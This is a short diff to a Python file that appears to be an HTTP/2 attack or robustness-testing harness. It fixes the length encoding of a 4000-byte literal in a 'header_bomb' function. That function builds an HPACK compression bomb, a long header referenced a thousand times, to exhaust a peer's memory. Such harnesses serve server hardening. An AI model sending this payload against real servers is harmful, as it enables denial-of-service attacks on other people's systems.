@@ -283,7 +283,7 @@ def large_continuation(attacker: Attacker) -> None:
 
 def header_bomb(attacker: Attacker) -> None:
     """A long header in the table of the peer, then header blocks that name it a thousand times."""
-    plant = b"\x40\x01x" + b"\x7f\xe1\x1e" + b"a" * 4000
+    plant = b"\x40\x01x" + b"\x7f\xa1\x1e" + b"a" * 4000  # a literal of 127 + 33 + 30 * 128 bytes
     first = frame(HEADERS, FIELDS + plant, flags=END_HEADERS, stream=1)
 
     def bombs(_: int) -> Iterator[bytes]:
